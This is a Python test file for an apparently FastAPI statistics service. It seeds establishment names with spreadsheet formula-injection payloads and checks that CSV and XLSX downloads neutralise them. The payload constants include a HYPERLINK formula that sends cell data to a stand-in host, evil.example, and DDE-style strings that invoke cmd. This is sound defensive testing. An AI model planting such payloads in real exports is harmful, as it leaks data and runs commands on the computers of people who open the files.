"""Spreadsheet downloads never carry a live formula, whatever text the store holds.

tests/exports/test_tabular.py checks the writers on a hand-made table; here the hostile text
sits in the store itself (establishment names and provenance, which `siep seed` and boundary
imports take as given) and is read back through every CSV/XLSX download of the API.
"""

from __future__ import annotations

import csv
import io
import shutil
from collections.abc import Iterator
from pathlib import Path

import openpyxl
import pytest
from fastapi.testclient import TestClient

from app.exports.tabular import FORMULA_PREFIXES
from app.main import create_app
from app.settings import Settings
from app.stats.indicators import CORE_REGISTRY, indicator_rows
from app.store.engine import make_engine
from app.store.ingest.seed import seed
from app.store.migrate import upgrade
from tests.conftest import FIXTURE_DATA

HOSTILE_NAMES = {
    "E.P. Lurigancho": '=HYPERLINK("http://evil.example/?"&A1,"Lurigancho")',
    "E.P. Callao": "@SUM(1+1)*cmd|' /C calc'!A0",
}
HOSTILE_SOURCE = "+cmd|' /C notepad'!A0"

DOWNLOADS = [
    "/api/v1/establishments?f={f}",
    "/api/v1/establishments/EP-CALLAO?f={f}",
    "/api/v1/choropleth?indicator=population&level=establishment&period=2024-12&f={f}",
    "/api/v1/observations?level=establishment&f={f}",
]


@pytest.fixture(scope="module")
def client(tmp_path_factory: pytest.TempPathFactory) -> Iterator[TestClient]:
    data = tmp_path_factory.mktemp("hostiledata") / "geodata"
    shutil.copytree(FIXTURE_DATA, data)
    places = data / "establishments.csv"
    text = places.read_text(encoding="utf-8")
    for name, hostile in HOSTILE_NAMES.items():
        text = text.replace(name, '"' + hostile.replace('"', '""') + '"')
    places.write_text(text.replace("test fixture", HOSTILE_SOURCE), encoding="utf-8")
    url = f"sqlite:///{Path(tmp_path_factory.mktemp('hostilestore')) / 'siep.sqlite'}"
    engine = make_engine(url)
    upgrade(engine)
    seed(engine, data, indicator_rows(CORE_REGISTRY))
    engine.dispose()
    settings = Settings(
        database_url=url, var_dir=tmp_path_factory.mktemp("hostilevar"), seed_on_start=False
    )
    with TestClient(create_app(settings)) as test_client:
        yield test_client


def _is_live(cell: object) -> bool:
    return isinstance(cell, str) and cell.startswith(FORMULA_PREFIXES)


def test_the_store_really_holds_the_hostile_names(client: TestClient) -> None:
    names = client.get("/api/v1/establishments?f=json").text
    assert "=HYPERLINK" in names and "@SUM" in names


@pytest.mark.parametrize("url", DOWNLOADS)
def test_csv_download_has_no_live_formula(client: TestClient, url: str) -> None:
    response = client.get(url.format(f="csv"))
    assert response.status_code == 200, response.text[:300]
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    cells = [cell for row in rows for cell in row]
    assert not [c for c in cells if _is_live(c) and not _is_number(c)]
    if url.startswith("/api/v1/establishments?"):
        assert any(c.startswith("'=HYPERLINK") or c.startswith("'@SUM") for c in cells)


@pytest.mark.parametrize("url", DOWNLOADS)
def test_xlsx_download_has_no_formula_cell(client: TestClient, url: str) -> None:
    response = client.get(url.format(f="xlsx"))
    assert response.status_code == 200, response.text[:300]
    book = openpyxl.load_workbook(io.BytesIO(response.content))
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                assert not _is_live(cell.value), (sheet.title, cell.coordinate, cell.value)


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True
